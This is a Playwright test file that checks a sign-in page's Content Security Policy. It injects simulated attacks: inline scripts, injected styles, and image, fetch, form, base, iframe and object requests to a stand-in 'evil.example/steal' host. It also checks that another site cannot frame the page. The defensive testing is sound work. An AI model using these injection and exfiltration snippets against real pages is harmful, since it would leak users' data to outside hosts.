import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { at } from './owner.ts';

/** What a script that slipped into a page would try; each is a directive that has to stop it. */
const attempts = {
  'script-src-elem': () => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "taken over"';
    document.body.append(script);
  },
  'script-src-attr': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'document.title = "taken over"');
    document.body.append(button);
    button.click();
  },
  'style-src-elem': () => {
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.body.append(style);
  },
  'img-src': () => {
    const image = new Image();
    image.src = 'https://evil.example/steal?what=all';
    document.body.append(image);
  },
  'connect-src': () => {
    fetch('https://evil.example/steal').catch(() => null);
  },
  'form-action': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/steal';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'base-uri': () => {
    const address = document.createElement('base');
    address.href = 'https://evil.example/';
    document.head.append(address);
  },
  'frame-src': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'object-src': () => {
    const object = document.createElement('object');
    object.data = 'https://evil.example/';
    document.body.append(object);
  },
};

for (const [directive, attempt] of Object.entries(attempts))
  test(`the browser stops what ${directive} forbids`, async ({ page }) => {
    await page.goto(at('/sign-in'));
    await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
    const stopped = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
            resolve(effectiveDirective),
          );
        }),
    );
    await page.evaluate(attempt);

    expect(await stopped).toBe(directive);
    expect(page.url()).toBe(at('/sign-in'));
  });

test('another site cannot put a page of ours into a frame', async ({ page }) => {
  const elsewhere = createServer((_request, response) => {
    response
      .setHeader('content-type', 'text/html')
      .end(`<iframe src="${at('/sign-in')}"></iframe>`);
  });
  await new Promise<void>((resolve) => void elsewhere.listen(0, '127.0.0.1', resolve));
  const { port } = elsewhere.address() as AddressInfo;
  const answered = page.waitForResponse(at('/sign-in'));

  await page.goto(`http://127.0.0.1:${port}/`);

  // The answer comes, but the browser shows its own page of an error in its place.
  expect((await answered).status()).toBe(200);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  elsewhere.close();
});
